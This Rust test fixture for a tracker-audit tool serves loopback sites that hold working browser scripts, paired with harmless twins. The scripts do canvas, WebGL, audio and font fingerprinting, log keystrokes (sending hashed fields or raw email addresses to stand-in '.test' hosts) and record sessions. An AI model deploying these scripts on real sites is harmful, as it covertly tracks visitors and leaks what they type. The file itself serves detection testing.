//! The behaviour fixture web (issue #17): a [`Web`] in, sites that fingerprint,
//! log keystrokes or record sessions added to it out, each with an honest
//! twin, and [`sites`] saying what an audit of each must find. The scripts
//! are written in the shapes such code has in the wild (a canvas fingerprint
//! drawing emoji text in two colours, a WebGL renderer probe, an audio
//! fingerprint through a compressor, a font probe over 40 families, an
//! abandoned-form key logger hashing what is typed, a session recorder
//! batching DOM and input events); the twins use the same APIs harmlessly
//! (a chart, a 3D scene, a chime, a headline fitter, a form that sends only
//! on submit, a lazy-image loader). Every site links a `/privacy` page.

use super::server::{Web, WebResponse, WebServer};
use crate::model::BehaviourKind;
use crate::targets::TargetList;

/// One site of the behaviour web and what an audit of it must find.
#[derive(Debug, Clone)]
pub struct BehaveSite {
    /// Host name, `www.SLUG.test`.
    pub host: String,
    /// Landing page URL (`http://HOST/`).
    pub url: String,
    /// The behaviour rows it must show: kind and the script (or, for key
    /// logging, the request host) behind it.
    pub behaviours: Vec<(BehaviourKind, String)>,
    /// The behaviour findings that must fire on it (empty for a twin).
    pub findings: Vec<&'static str>,
    /// The slug of its twin (the dishonest site's honest counterpart, or back).
    pub twin: &'static str,
}

/// What a site's policy says about fingerprinting.
#[derive(Clone, Copy, PartialEq)]
pub(super) enum Policy {
    /// Silent on fingerprinting and session recording.
    Plain,
    /// "We never use device fingerprinting."
    DeniesFingerprinting,
    /// Discloses device fingerprinting for fraud prevention.
    DisclosesFingerprinting,
}

/// A site: its twin, policy, scripts (host, empty for its own, path,
/// source), page body and the body tag's attributes, other files it serves
/// (host, empty for its own, path, HTML or a `.js` source: frames and their
/// scripts), and what must be found.
pub(super) struct Plan {
    pub(super) slug: &'static str,
    pub(super) twin: &'static str,
    pub(super) policy: Policy,
    pub(super) scripts: Vec<(&'static str, &'static str, String)>,
    pub(super) body: &'static str,
    pub(super) attrs: &'static str,
    pub(super) files: Vec<(&'static str, &'static str, String)>,
    pub(super) behaviours: Vec<(BehaviourKind, &'static str)>,
    pub(super) findings: Vec<&'static str>,
}

impl Plan {
    /// An empty plan with `policy`, to fill in.
    pub(super) fn new(policy: Policy) -> Plan {
        Plan {
            slug: "",
            twin: "",
            policy,
            scripts: Vec::new(),
            body: "",
            attrs: "",
            files: Vec::new(),
            behaviours: Vec::new(),
            findings: Vec::new(),
        }
    }
}

const CANVAS_FP: &str = r#"/* devicetrace v3: browser signature */
(function () {
  var sig = [navigator.userAgent, navigator.language, navigator.platform, navigator.hardwareConcurrency,
    screen.width + 'x' + screen.height, screen.colorDepth].join('|');
  var c = document.createElement('canvas');
  c.width = 240; c.height = 60;
  var x = c.getContext('2d');
  x.textBaseline = 'top';
  x.font = "14px 'Arial'";
  x.fillStyle = '#f60';
  x.fillRect(125, 1, 62, 20);
  x.fillStyle = '#069';
  x.fillText('Cwm fjordbank glyphs vext quiz, \ud83d\ude03', 2, 15);
  x.fillStyle = 'rgba(102, 204, 0, 0.7)';
  x.fillText('Cwm fjordbank glyphs vext quiz, \ud83d\ude03', 4, 17);
  var data = c.toDataURL(), h = 0;
  for (var i = 0; i < data.length; i++) h = ((h << 5) - h + data.charCodeAt(i)) | 0;
  navigator.sendBeacon('//cdn.devicetrace.test/v3/collect', JSON.stringify({ c: h, s: sig }));
})();
"#;

const CHART: &str = r#"/* Monthly sales chart, with a thumbnail for the share button. */
(function () {
  var c = document.getElementById('sales'), x = c.getContext('2d');
  var months = ['Jan', 'Feb', 'Mar', 'Apr', 'May', 'Jun', 'Jul', 'Aug', 'Sep', 'Oct', 'Nov', 'Dec'];
  var sales = [12, 19, 3, 5, 2, 3, 9, 14, 11, 7, 16, 20];
  x.save();
  x.fillStyle = '#ffffff';
  x.fillRect(0, 0, c.width, c.height);
  x.restore();
  x.font = '16px sans-serif';
  x.fillStyle = '#1a73e8';
  x.fillText('Monthly sales 2024', 10, 20);
  x.font = '11px sans-serif';
  for (var i = 0; i < 12; i++) {
    x.save();
    x.fillStyle = '#34a853';
    x.fillRect(20 + i * 38, 220 - sales[i] * 9, 28, sales[i] * 9);
    x.fillStyle = '#333333';
    x.fillText(months[i], 22 + i * 38, 235);
    x.restore();
  }
  c.addEventListener('mousemove', function (e) { c.title = months[Math.min(11, Math.max(0, Math.floor((e.offsetX - 20) / 38)))]; });
  document.getElementById('thumb').src = c.toDataURL();
  // The unread-messages badge.
  var b = document.createElement('canvas');
  b.width = 12; b.height = 12;
  var bx = b.getContext('2d');
  bx.fillStyle = '#d93025'; bx.fillText('3', 2, 10);
  bx.fillStyle = '#ffffff'; bx.fillText('!', 7, 10);
  bx.getImageData(0, 0, 12, 12);
})();
"#;

const WEBGL_FP: &str = r#"/* glprobe: GPU signature */
(function () {
  var c = document.createElement('canvas');
  var gl = c.getContext('webgl') || c.getContext('experimental-webgl');
  if (!gl) return;
  var d = gl.getExtension('WEBGL_debug_renderer_info');
  var r = d ? gl.getParameter(d.UNMASKED_RENDERER_WEBGL) : '';
  var v = d ? gl.getParameter(d.UNMASKED_VENDOR_WEBGL) : '';
  new Image().src = '//static.glprobe.test/px.gif?r=' + encodeURIComponent(r) + '&v=' + encodeURIComponent(v) +
    '&ua=' + encodeURIComponent(navigator.userAgent);
})();
"#;

const WEBGL_SCENE: &str = r#"/* A spinning logo in WebGL. */
(function () {
  var c = document.getElementById('logo'), gl = c.getContext('webgl');
  if (!gl) return;
  var max = gl.getParameter(gl.MAX_TEXTURE_SIZE);
  c.dataset.maxTexture = max;
  var vs = gl.createShader(gl.VERTEX_SHADER);
  gl.shaderSource(vs, 'attribute vec2 p; void main() { gl_Position = vec4(p, 0.0, 1.0); }');
  gl.compileShader(vs);
  var fs = gl.createShader(gl.FRAGMENT_SHADER);
  gl.shaderSource(fs, 'precision mediump float; void main() { gl_FragColor = vec4(0.1, 0.45, 0.9, 1.0); }');
  gl.compileShader(fs);
  var pr = gl.createProgram();
  gl.attachShader(pr, vs); gl.attachShader(pr, fs); gl.linkProgram(pr); gl.useProgram(pr);
  var buf = gl.createBuffer();
  gl.bindBuffer(gl.ARRAY_BUFFER, buf);
  gl.bufferData(gl.ARRAY_BUFFER, new Float32Array([0, 0.8, -0.8, -0.8, 0.8, -0.8]), gl.STATIC_DRAW);
  var loc = gl.getAttribLocation(pr, 'p');
  gl.enableVertexAttribArray(loc);
  gl.vertexAttribPointer(loc, 2, gl.FLOAT, false, 0, 0);
  gl.clearColor(1, 1, 1, 1);
  gl.clear(gl.COLOR_BUFFER_BIT);
  gl.drawArrays(gl.TRIANGLES, 0, 3);
})();
"#;

const AUDIO_FP: &str = r#"/* audiotrace: audio stack signature */
(function () {
  var A = window.OfflineAudioContext || window.webkitOfflineAudioContext;
  if (!A) return;
  var ctx = new A(1, 5000, 44100);
  var osc = ctx.createOscillator();
  osc.type = 'triangle';
  osc.frequency.value = 10000;
  var comp = ctx.createDynamicsCompressor();
  comp.threshold.value = -50; comp.knee.value = 40; comp.ratio.value = 12;
  comp.attack.value = 0; comp.release.value = 0.25;
  osc.connect(comp);
  comp.connect(ctx.destination);
  osc.start(0);
  ctx.startRendering().then(function (buf) {
    var d = buf.getChannelData(0), s = 0;
    for (var i = 4500; i < 5000; i++) s += Math.abs(d[i]);
    fetch('//api.audiotrace.test/v1/a', { method: 'POST', mode: 'no-cors', body: String(s) });
  });
})();
"#;

const CHIME: &str = r#"/* The doorbell chime of the shop's "new order" button. */
(function () {
  var AC = window.AudioContext || window.webkitAudioContext;
  if (!AC) return;
  var ctx = new AC(), osc = ctx.createOscillator(), gain = ctx.createGain();
  osc.frequency.value = 880;
  gain.gain.value = 0.2;
  osc.connect(gain);
  gain.connect(ctx.destination);
  document.getElementById('order').addEventListener('click', function () { osc.start(); osc.stop(ctx.currentTime + 0.3); });
})();
"#;

const FONT_FP: &str = r#"/* fontscan: installed fonts */
(function () {
  var base = ['monospace', 'sans-serif', 'serif'];
  var fonts = ['Arial', 'Arial Black', 'Bookman Old Style', 'Calibri', 'Cambria', 'Candara', 'Century Gothic',
    'Comic Sans MS', 'Consolas', 'Constantia', 'Corbel', 'Courier New', 'DejaVu Sans', 'Didot', 'Franklin Gothic',
    'Futura', 'Garamond', 'Georgia', 'Gill Sans', 'Helvetica', 'Impact', 'Liberation Serif', 'Lucida Console',
    'Lucida Sans Unicode', 'Menlo', 'Microsoft Sans Serif', 'Monaco', 'Noto Sans', 'Optima', 'Palatino Linotype',
    'Roboto', 'Rockwell', 'Segoe UI', 'Tahoma', 'Times New Roman', 'Trebuchet MS', 'Ubuntu', 'Verdana',
    'Wingdings', 'Baskerville'];
  var s = document.createElement('span');
  s.style.position = 'absolute'; s.style.left = '-9999px'; s.style.fontSize = '72px';
  s.textContent = 'mmmmmmmmmmlli';
  document.body.appendChild(s);
  var def = {};
  base.forEach(function (b) { s.style.fontFamily = b; def[b] = [s.offsetWidth, s.offsetHeight]; });
  var found = [];
  fonts.forEach(function (f) {
    for (var i = 0; i < base.length; i++) {
      s.style.fontFamily = "'" + f + "', " + base[i];
      if (s.offsetWidth !== def[base[i]][0] || s.offsetHeight !== def[base[i]][1]) { found.push(f); break; }
    }
  });
  document.body.removeChild(s);
  fetch('//collect.fontscan.test/f', { method: 'POST', mode: 'no-cors', body: found.join(',') });
})();
"#;

const HEADLINE_FIT: &str = r#"/* Fits the headline to its box in the brand fonts. */
(function () {
  var h = document.querySelector('h1'), x = document.createElement('canvas').getContext('2d');
  var families = ["'Playfair Display', serif", "Georgia, serif", "'Source Sans Pro', sans-serif"];
  for (var i = 0; i < families.length; i++) {
    x.font = 'bold 40px ' + families[i];
    if (x.measureText(h.textContent).width < 600) { h.style.fontFamily = families[i]; break; }
  }
})();
"#;

/// MD5 of a string's UTF-8 bytes, as key loggers hash what they capture.
pub(super) const MD5_JS: &str = r#"function md5(str) {
  str = unescape(encodeURIComponent(str));
  var n = str.length, w = [], i;
  for (i = 0; i < n; i++) w[i >> 2] |= str.charCodeAt(i) << ((i % 4) * 8);
  w[n >> 2] |= 0x80 << ((n % 4) * 8);
  var nw = (((n + 8) >> 6) + 1) * 16;
  for (i = 0; i < nw; i++) w[i] = w[i] | 0;
  w[nw - 2] = n * 8;
  var K = [], S = [7, 12, 17, 22, 5, 9, 14, 20, 4, 11, 16, 23, 6, 10, 15, 21];
  for (i = 0; i < 64; i++) K[i] = Math.floor(Math.abs(Math.sin(i + 1)) * 4294967296) | 0;
  var h = [0x67452301, 0xefcdab89 | 0, 0x98badcfe | 0, 0x10325476];
  for (var o = 0; o < nw; o += 16) {
    var A = h[0], B = h[1], C = h[2], D = h[3], F, g;
    for (i = 0; i < 64; i++) {
      if (i < 16) { F = (B & C) | (~B & D); g = i; }
      else if (i < 32) { F = (D & B) | (~D & C); g = (5 * i + 1) % 16; }
      else if (i < 48) { F = B ^ C ^ D; g = (3 * i + 5) % 16; }
      else { F = C ^ (B | ~D); g = (7 * i) % 16; }
      var x = (A + F + K[i] + w[o + g]) | 0, s = S[(i >> 4) * 4 + (i % 4)];
      A = D; D = C; C = B;
      B = (B + ((x << s) | (x >>> (32 - s)))) | 0;
    }
    h[0] = (h[0] + A) | 0; h[1] = (h[1] + B) | 0; h[2] = (h[2] + C) | 0; h[3] = (h[3] + D) | 0;
  }
  var out = '';
  for (i = 0; i < 4; i++) for (var j = 0; j < 4; j++) out += ('0' + ((h[i] >>> (j * 8)) & 255).toString(16)).slice(-2);
  return out;
}
"#;

const KEYLOG_MD5: &str = r#"/* formsense: abandoned-form analytics. Hashes each field as it is typed. */
(function () {
  var timers = {};
  document.addEventListener('keyup', function (e) {
    var t = e.target;
    if (!t || typeof t.value !== 'string' || !t.name) return;
    clearTimeout(timers[t.name]);
    timers[t.name] = setTimeout(function () {
      var x = new XMLHttpRequest();
      x.open('POST', '//cdn.formsense.test/collect');
      x.setRequestHeader('Content-Type', 'text/plain');
      x.send(JSON.stringify({ page: location.pathname, field: t.name, h: md5(t.value) }));
    }, 150);
  }, true);
})();
"#;

const KEYLOG_PLAIN: &str = r#"/* leadcapture: saves partially filled lead forms. */
(function () {
  document.addEventListener('input', function (e) {
    var t = e.target;
    if (!t || t.type !== 'email' || t.value.indexOf('@') < 0) return;
    fetch('//api.leadcapture.test/v2/partial', { method: 'POST', mode: 'no-cors',
      headers: { 'Content-Type': 'text/plain' }, body: JSON.stringify({ site: location.host, email: t.value }) });
  }, true);
})();
"#;

const HONEST_FORM: &str = r#"/* Newsletter sign-up: sent only when submitted; the draft stays on the site. */
(function () {
  var f = document.getElementById('signup'), timer;
  f.addEventListener('input', function () {
    clearTimeout(timer);
    timer = setTimeout(function () {
      fetch('/api/draft', { method: 'POST', body: new URLSearchParams(new FormData(f)) });
    }, 200);
  });
  f.addEventListener('submit', function (e) {
    e.preventDefault();
    fetch('//api.mailinglist.test/subscribe', { method: 'POST', mode: 'no-cors', body: new FormData(f) });
  });
})();
"#;

const RECORDER: &str = r#"/* replaylog: session replay (inputs masked). */
(function () {
  var buf = [], t0 = Date.now(), sid = Math.random().toString(36).slice(2);
  var push = function (e) { if (buf.length < 500) { e.at = Date.now() - t0; buf.push(e); } };
  push({ t: 'snapshot', html: document.documentElement.outerHTML.length, w: innerWidth, h: innerHeight });
  new MutationObserver(function (ms) { push({ t: 'mutation', n: ms.length }); })
    .observe(document, { childList: true, subtree: true, attributes: true, characterData: true });
  ['mousemove', 'click', 'keydown', 'input', 'scroll'].forEach(function (type) {
    document.addEventListener(type, function (e) {
      push({ t: type, x: e.clientX, y: e.clientY, target: e.target && e.target.tagName, key: e.key ? '*' : undefined });
    }, true);
  });
  setInterval(function () {
    if (!buf.length) return;
    var b = buf; buf = [];
    fetch('//cdn.replaylog.test/ingest?sid=' + sid, { method: 'POST', mode: 'no-cors', keepalive: true, body: JSON.stringify(b) });
  }, 400);
})();
"#;

const LAZY_LOADER: &str = r#"/* Lazy images: loads data-src images as they are added; one page-view beacon. */
(function () {
  var load = function (root) {
    (root.querySelectorAll ? root.querySelectorAll('img[data-src]') : []).forEach(function (img) { img.src = img.dataset.src; img.removeAttribute('data-src'); });
  };
  new MutationObserver(function (ms) { ms.forEach(function (m) { m.addedNodes.forEach(load); }); })
    .observe(document, { childList: true, subtree: true });
  document.addEventListener('scroll', function () { load(document); }, { passive: true });
  document.addEventListener('DOMContentLoaded', function () { load(document); });
  navigator.sendBeacon('//stats.pagecount.test/pv', location.pathname);
})();
"#;

const GOODS: &str =
    "<main><h1>Garden tools</h1><p>Spades, rakes and hoes, forged in Sheffield.</p></main>";
const EMAIL_FORM: &str = r#"<main><h1>Get 10% off</h1><form id="signup" action="/subscribe" method="post">
<label>Name <input name="name" type="text" autocomplete="name"></label>
<label>Email <input name="email" type="email" autocomplete="email"></label>
<label>Password <input name="password" type="password"></label>
<label>Message <textarea name="message"></textarea></label>
<input type="hidden" name="token" value="t0k3n">
<button type="submit">Subscribe</button></form></main>"#;

fn plans() -> Vec<Plan> {
    use BehaviourKind::*;
    use Policy::*;
    let s = |host: &'static str, path: &'static str, body: &str| (host, path, body.to_string());
    let own = |path: &'static str, body: &str| ("", path, body.to_string());
    let keylog_md5 = format!("{MD5_JS}{KEYLOG_MD5}");
    let mut plans = vec![
        Plan {
            slug: "canvas-fp",
            twin: "canvas-chart",
            policy: Plain,
            scripts: vec![s("cdn.devicetrace.test", "/v3/fp.js", CANVAS_FP)],
            body: GOODS,
            behaviours: vec![(CanvasFingerprint, "http://cdn.devicetrace.test/v3/fp.js")],
            findings: vec!["fingerprinting_undisclosed"],
            attrs: "",
            files: vec![],
        },
        Plan {
            slug: "canvas-chart",
            twin: "canvas-fp",
            policy: Plain,
            scripts: vec![own("/js/chart.js", CHART)],
            body: r#"<main><h1>Sales</h1><canvas id="sales" width="480" height="240"></canvas><img id="thumb" alt="" width="96" height="48"></main>"#,
            behaviours: vec![],
            findings: vec![],
            attrs: "",
            files: vec![],
        },
        Plan {
            slug: "canvas-fp-disclosed",
            twin: "canvas-fp",
            policy: DisclosesFingerprinting,
            scripts: vec![s("cdn.devicetrace.test", "/v3/fp.js", CANVAS_FP)],
            body: GOODS,
            behaviours: vec![(CanvasFingerprint, "http://cdn.devicetrace.test/v3/fp.js")],
            findings: vec![],
            attrs: "",
            files: vec![],
        },
        Plan {
            slug: "webgl-fp",
            twin: "webgl-scene",
            policy: DeniesFingerprinting,
            scripts: vec![s("static.glprobe.test", "/probe.js", WEBGL_FP)],
            body: GOODS,
            behaviours: vec![(WebglFingerprint, "http://static.glprobe.test/probe.js")],
            findings: vec!["fingerprinting_contradicted"],
            attrs: "",
            files: vec![],
        },
        Plan {
            slug: "webgl-scene",
            twin: "webgl-fp",
            policy: DeniesFingerprinting,
            scripts: vec![own("/js/logo.js", WEBGL_SCENE)],
            body: r#"<main><h1>Studio</h1><canvas id="logo" width="200" height="200"></canvas></main>"#,
            behaviours: vec![],
            findings: vec![],
            attrs: "",
            files: vec![],
        },
        Plan {
            slug: "audio-fp",
            twin: "audio-chime",
            policy: Plain,
            scripts: vec![s("api.audiotrace.test", "/v1/at.js", AUDIO_FP)],
            body: GOODS,
            behaviours: vec![(AudioFingerprint, "http://api.audiotrace.test/v1/at.js")],
            findings: vec!["fingerprinting_undisclosed"],
            attrs: "",
            files: vec![],
        },
        Plan {
            slug: "audio-chime",
            twin: "audio-fp",
            policy: Plain,
            scripts: vec![own("/js/chime.js", CHIME)],
            body: r#"<main><h1>Orders</h1><button id="order">New order</button></main>"#,
            behaviours: vec![],
            findings: vec![],
            attrs: "",
            files: vec![],
        },
        Plan {
            slug: "font-fp",
            twin: "font-headline",
            policy: DeniesFingerprinting,
            scripts: vec![s("collect.fontscan.test", "/fs.js", FONT_FP)],
            body: GOODS,
            behaviours: vec![(FontFingerprint, "http://collect.fontscan.test/fs.js")],
            findings: vec!["fingerprinting_contradicted"],
            attrs: "",
            files: vec![],
        },
        Plan {
            slug: "font-headline",
            twin: "font-fp",
            policy: DeniesFingerprinting,
            scripts: vec![own("/js/fit.js", HEADLINE_FIT)],
            body: GOODS,
            behaviours: vec![],
            findings: vec![],
            attrs: "",
            files: vec![],
        },
        Plan {
            slug: "keylog-md5",
            twin: "form-honest",
            policy: Plain,
            scripts: vec![s("cdn.formsense.test", "/fs.js", &keylog_md5)],
            body: EMAIL_FORM,
            behaviours: vec![(KeyLogging, "cdn.formsense.test")],
            findings: vec!["keystrokes_leaked", "pii_in_tracker_request"],
            attrs: "",
            files: vec![],
        },
        Plan {
            slug: "keylog-plain",
            twin: "form-honest",
            policy: Plain,
            scripts: vec![s("api.leadcapture.test", "/lc.js", KEYLOG_PLAIN)],
            body: EMAIL_FORM,
            behaviours: vec![(KeyLogging, "api.leadcapture.test")],
            findings: vec!["keystrokes_leaked", "pii_in_tracker_request"],
            attrs: "",
            files: vec![],
        },
        Plan {
            slug: "form-honest",
            twin: "keylog-md5",
            policy: Plain,
            scripts: vec![own("/js/signup.js", HONEST_FORM)],
            body: EMAIL_FORM,
            // The draft is saved on the site itself: key logging, but no leak.
            behaviours: vec![(KeyLogging, "www.form-honest.test")],
            findings: vec![],
            attrs: "",
            files: vec![],
        },
        Plan {
            slug: "recorder",
            twin: "lazy-images",
            policy: Plain,
            scripts: vec![s("cdn.replaylog.test", "/rec.js", RECORDER)],
            body: EMAIL_FORM,
            behaviours: vec![(SessionRecording, "http://cdn.replaylog.test/rec.js")],
            findings: vec!["session_replay_undisclosed"],
            attrs: "",
            files: vec![],
        },
        Plan {
            slug: "lazy-images",
            twin: "recorder",
            policy: Plain,
            scripts: vec![s("cdn.lazyimg.test", "/lazy.js", LAZY_LOADER)],
            body: r#"<main><h1>Gallery</h1><img data-src="/img/1.png" alt="" width="40" height="40"></main>"#,
            behaviours: vec![],
            findings: vec![],
            attrs: "",
            files: vec![],
        },
    ];
    plans.extend(super::behave_more::plans());
    plans
}

fn host_of(slug: &str) -> String {
    format!("www.{slug}.test")
}

/// The behaviour findings the integration test checks.
pub const FINDINGS: [&str; 5] = [
    "fingerprinting_undisclosed",
    "fingerprinting_contradicted",
    "keystrokes_leaked",
    "pii_in_tracker_request",
    "session_replay_undisclosed",
];

/// Every site of the behaviour web, in a stable order.
pub fn sites() -> Vec<BehaveSite> {
    plans()
        .into_iter()
        .map(|p| {
            let host = host_of(p.slug);
            BehaveSite {
                url: format!("http://{host}/"),
                behaviours: p
                    .behaviours
                    .iter()
                    .map(|(k, s)| (*k, s.to_string()))
                    .collect(),
                findings: p.findings.clone(),
                twin: p.twin,
                host,
            }
        })
        .collect()
}

/// The behaviour web's target list (text format).
pub fn targets_text() -> String {
    let mut s = String::from("# trackaudit behaviour fixture web, served on loopback\n");
    for site in sites() {
        s.push_str(&site.url);
        s.push('\n');
    }
    s
}

/// The behaviour web's targets, parsed.
pub fn targets() -> TargetList {
    TargetList::parse("behave", &targets_text(), true).expect("the behaviour list is valid")
}

/// The behaviour web alone.
pub fn web() -> Web {
    let mut w = Web::new();
    add(&mut w);
    w
}

/// Starts the behaviour web alone on a free loopback port.
pub async fn start() -> std::io::Result<WebServer> {
    WebServer::start(web().handler(), 0, false).await
}

fn js(body: &str) -> WebResponse {
    WebResponse::new(
        200,
        "application/javascript; charset=utf-8",
        body.to_string(),
    )
}

const POLICY: [&str; 3] = [
    "We collect the name and email address you give us when you sign up for our newsletter, and use them only to send it.",
    "We use cookies that are strictly necessary to run this site.",
    "We do not sell your personal information.",
];

fn policy_text(p: Policy) -> String {
    let mut text: String = POLICY.iter().map(|s| format!("<p>{s}</p>")).collect();
    match p {
        Policy::Plain => {}
        Policy::DeniesFingerprinting => text.push_str("<p>We never use device fingerprinting.</p>"),
        Policy::DisclosesFingerprinting => text.push_str(
            "<p>We and our fraud-prevention partner use device fingerprinting to recognise your browser and prevent fraud.</p>",
        ),
    }
    text
}

fn page(title: &str, attrs: &str, body: &str) -> String {
    let sp = if attrs.is_empty() { "" } else { " " };
    format!(
        "<!doctype html><html lang=\"en\"><head><meta charset=\"utf-8\"><title>{title}</title></head>\
         <body{sp}{attrs}>{body}<footer><a href=\"/privacy\">Privacy Policy</a></footer></body></html>"
    )
}

/// Adds every behaviour fixture site and the script hosts they use.
pub fn add(w: &mut Web) {
    for p in plans() {
        let host = host_of(p.slug);
        let mut tags = String::new();
        for (script_host, path, body) in &p.scripts {
            let h = if script_host.is_empty() {
                host.as_str()
            } else {
                script_host
            };
            // Scheme-relative, as tags are embedded.
            tags.push_str(&format!(r#"<script src="//{h}{path}"></script>"#));
            w.route(h, path, js(body));
        }
        // At the end of the body, where the page's elements exist.
        w.page(
            &host,
            "/",
            &page(p.slug, p.attrs, &format!("{}{tags}", p.body)),
        );
        for (file_host, path, body) in &p.files {
            let h = if file_host.is_empty() {
                host.as_str()
            } else {
                file_host
            };
            if path.ends_with(".js") {
                w.route(h, path, js(body));
            } else {
                w.page(h, path, body);
            }
        }
        for path in super::behave_more::OWN {
            w.route(&host, path, WebResponse::status(204));
        }
        w.page(
            &host,
            "/privacy",
            &page(
                "Privacy Policy",
                "",
                &format!(
                    "<main><h1>Privacy Policy</h1>{}</main>",
                    policy_text(p.policy)
                ),
            ),
        );
        w.route(&host, "/api/draft", WebResponse::status(204));
        w.route(&host, "/img/1.png", WebResponse::pixel());
    }
    for (h, path) in [
        ("cdn.devicetrace.test", "/v3/collect"),
        ("api.audiotrace.test", "/v1/a"),
        ("collect.fontscan.test", "/f"),
        ("cdn.formsense.test", "/collect"),
        ("api.leadcapture.test", "/v2/partial"),
        ("cdn.replaylog.test", "/ingest"),
        ("stats.pagecount.test", "/pv"),
        ("api.mailinglist.test", "/subscribe"),
    ]
    .into_iter()
    .chain(super::behave_more::SINKS)
    {
        w.route(h, path, WebResponse::status(204));
    }
    for (h, path) in [("static.glprobe.test", "/px.gif")]
        .into_iter()
        .chain(super::behave_more::PIXELS)
    {
        w.route(h, path, WebResponse::pixel());
    }
}
